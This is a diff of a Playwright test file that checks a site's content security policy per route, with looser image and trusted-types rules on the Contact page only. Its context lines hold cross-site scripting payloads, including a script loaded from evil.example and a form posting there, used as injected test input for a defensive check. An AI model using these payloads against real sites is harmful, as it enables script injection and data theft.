@@ -32,6 +32,20 @@ for (const route of pages) {
   });
 }
 
+test('only Contact shows pictures that were not fetched, and only there a script may become a worker', async ({
+  page,
+}) => {
+  for (const route of pages) {
+    await page.goto(route);
+    const policy = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
+    const named = (directive: string) =>
+      policy!.split(';').find((one) => one.trim().split(' ')[0] === directive)?.trim();
+    const isContact = route === routes.contact;
+    expect(named('img-src')).toBe(`img-src 'self' data:${isContact ? ' blob:' : ''}`);
+    expect(named('trusted-types')).toBe(`trusted-types${isContact ? ' photo-worker' : ''}`);
+  }
+});
+
 test('injected markup can neither run scripts nor send anything', async ({ page }) => {
   const injected = `<script>hacked = 1</script><img src="/x" onerror="hacked = 1"><a href="javascript:hacked=1">x</a>
     <script src="https://evil.example/x.js"></script><form id="evil" action="https://evil.example/"></form>
